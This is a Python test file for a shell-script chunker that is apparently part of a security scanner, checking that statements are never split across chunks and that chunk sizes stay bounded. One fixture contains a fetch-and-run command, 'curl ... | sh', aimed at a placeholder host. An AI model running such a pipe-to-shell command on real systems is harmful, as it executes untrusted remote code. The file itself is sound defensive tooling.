"""Scripts cut where statements end, never inside one (shell/chunks)."""

from __future__ import annotations

from app.core.scanners.text_rules.shell.chunks import CHUNK_LINES, MAX_CHUNK_LINES, chunks


def _cut_rows(script: str) -> list[int]:
    return [row for row, _ in chunks(script)]


def test_whole_statements_stay_in_one_chunk() -> None:
    filler = "echo x\n" * (CHUNK_LINES - 1)
    compound = "if true; then\n  curl -s https://x.example/i \\\n    | sh\nfi\n"
    heredoc = "cat <<'EOF' > run.sh\n" + "echo y\n" * 5 + "EOF\n"
    quoted = 'echo "a\n' + "b\n" * 5 + '"\n'
    for body in (compound, heredoc, quoted):
        script = filler + body + "echo after\n"
        rows = _cut_rows(script)
        first_after = rows[1] if len(rows) > 1 else None
        assert first_after is None or first_after >= CHUNK_LINES - 1 + body.count("\n"), (body, rows)


def test_chunks_cover_the_script_in_order_and_are_bounded() -> None:
    script = "\n".join(f"echo {i}" for i in range(1000))
    parts = chunks(script)
    assert "\n".join(text for _, text in parts) == script
    assert all(text.count("\n") < MAX_CHUNK_LINES for _, text in parts)
    assert [row for row, _ in parts] == sorted(row for row, _ in parts)
    endless = "if true; then\n" + "echo x\n" * 1000
    assert max(t.count("\n") + 1 for _, t in chunks(endless)) <= MAX_CHUNK_LINES
